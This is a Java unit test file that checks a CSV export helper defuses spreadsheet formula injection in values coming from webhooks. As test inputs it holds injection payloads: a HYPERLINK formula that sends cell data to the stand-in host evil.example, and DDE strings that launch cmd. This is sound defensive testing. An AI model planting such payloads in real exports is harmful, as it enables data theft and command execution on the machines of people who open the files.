package com.voiceledger.shared;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import org.junit.jupiter.api.Test;

/** Values from webhooks reach exports: a spreadsheet must show them, never run them. */
class CsvTest {

    @Test
    void aFormulaWithACommaIsQuotedAndStillDefused() {
        assertThat(Csv.field("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\"");
    }

    @Test
    void everyFormulaStartOwaspListsIsDefused() {
        assertThat(Csv.field("=1+1")).isEqualTo("'=1+1");
        assertThat(Csv.field("+1+cmd|' /C calc'!A0")).isEqualTo("'+1+cmd|' /C calc'!A0");
        assertThat(Csv.field("-2+3+cmd|' /C calc'!A0")).isEqualTo("'-2+3+cmd|' /C calc'!A0");
        assertThat(Csv.field("@SUM(1+1)")).isEqualTo("'@SUM(1+1)");
        assertThat(Csv.field("\t=1+1")).isEqualTo("'\t=1+1");
        assertThat(Csv.field("\r=1+1")).isEqualTo("\"'\r=1+1\"");
    }

    @Test
    void numbersStayNumbers() {
        assertThat(Csv.field("-12.50")).isEqualTo("-12.50");
        assertThat(Csv.field("+3")).isEqualTo("+3");
        assertThat(Csv.field(new BigDecimal("-0.338285").toPlainString())).isEqualTo("-0.338285");
        assertThat(Csv.field(-42)).isEqualTo("-42");
        assertThat(Csv.field("customer-ended-call")).isEqualTo("customer-ended-call");
        assertThat(Csv.field(null)).isEmpty();
    }
}
